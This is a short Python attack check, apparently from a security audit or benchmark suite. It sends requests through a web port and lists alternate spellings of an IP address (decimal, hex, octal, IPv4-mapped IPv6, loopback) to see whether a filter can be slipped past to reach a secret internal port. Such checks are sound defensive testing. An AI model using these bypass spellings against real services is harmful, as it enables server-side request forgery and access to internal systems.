"""Asks the way to the web for addresses, in all spellings that resolvers understand."""

import ipaddress

from pacabench.audit.attacks.kit import Found, Given, found, leaked, must_work, through_web


def attack(given: Given) -> Found:
    """See above."""
    must_work(given["web_port"])
    address = ipaddress.IPv4Address(given["wan"])
    first, *rest = str(address).split(".")
    spellings = (
        str(address),
        str(int(address)),
        hex(int(address)),
        ".".join([f"0{int(first):o}", *rest]),
        f"[::ffff:{address}]",
        f"{address}.",
        given["public"],
        "127.0.0.1",
        "[::1]",
    )
    port = given["secret_port"]
    seen = through_web(given["web_port"], [f"{text}:{port}" for text in spellings])
    return found(leaked(seen), answers=seen)
